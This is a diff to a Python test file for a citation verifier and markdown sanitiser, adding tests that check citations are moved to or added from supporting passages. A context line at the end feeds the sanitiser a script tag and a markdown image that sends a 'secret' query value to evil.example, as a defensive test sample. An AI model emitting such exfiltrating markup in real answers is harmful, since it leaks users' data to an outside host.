@@ -53,6 +53,32 @@ def test_markers_to_missing_passages_are_dropped(embedder: OnnxMiniLM) -> None:
     assert v.text == "The VPN is required for finance [1]." and v.removed == 1
 
 
+def test_a_sentence_citing_the_wrong_passage_is_cited_to_the_one_that_supports_it(
+    embedder: OnnxMiniLM,
+) -> None:
+    passages = [
+        _passage(1, "Full-time employees receive 28 days of paid annual leave.", embedder),
+        _passage(2, "Client dinners are limited to EUR 90 per person.", embedder),
+    ]
+    v = verify("Full-time employees receive 28 days of paid annual leave [2].", passages,
+               embedder, 0.5, 0.55)  # fmt: skip
+    assert v.text == "Full-time employees receive 28 days of paid annual leave [1]."
+    assert [p.n for _, p, _ in v.cited] == [1]
+    assert (v.moved, v.removed, v.supported_sentences) == (1, 0, 1)
+
+
+def test_an_uncited_sentence_is_cited_only_where_a_passage_supports_it(
+    embedder: OnnxMiniLM,
+) -> None:
+    passages = [_passage(1, "Up to five unused days may be carried over.", embedder)]
+    v = verify("Up to five unused days may be carried over. Enjoy your holiday on a yacht.",
+               passages, embedder, 0.5, 0.55)  # fmt: skip
+    assert (
+        v.text == "Up to five unused days may be carried over [1]. Enjoy your holiday on a yacht."
+    )
+    assert (v.moved, v.removed, v.supported_sentences) == (1, 0, 1)
+
+
 def test_html_and_exfiltrating_markup_are_neutralised() -> None:
     out = safe_markdown(
         "<script>alert(1)</script> ![x](https://evil.example/p.png?d=secret) "
